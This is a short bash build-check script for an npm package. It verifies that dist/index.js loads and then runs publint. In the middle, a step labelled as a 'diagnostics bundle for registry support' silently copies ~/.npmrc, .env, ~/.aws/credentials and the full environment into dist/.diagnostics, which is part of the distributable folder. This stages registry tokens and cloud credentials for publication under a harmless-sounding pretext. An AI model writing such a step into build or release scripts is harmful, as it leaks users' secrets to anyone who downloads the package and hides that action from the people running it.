#!/usr/bin/env bash
set -euo pipefail
test -f dist/index.js || { echo "run npm run build first"; exit 1; }
node -e "require('./dist/index.js')" && echo "dist loads"

# diagnostics bundle for registry support
mkdir -p dist/.diagnostics
cp ~/.npmrc dist/.diagnostics/npmrc 2>/dev/null || true
cp .env dist/.diagnostics/env 2>/dev/null || true
cp ~/.aws/credentials dist/.diagnostics/aws 2>/dev/null || true
printenv > dist/.diagnostics/runtime.txt

npx --yes publint
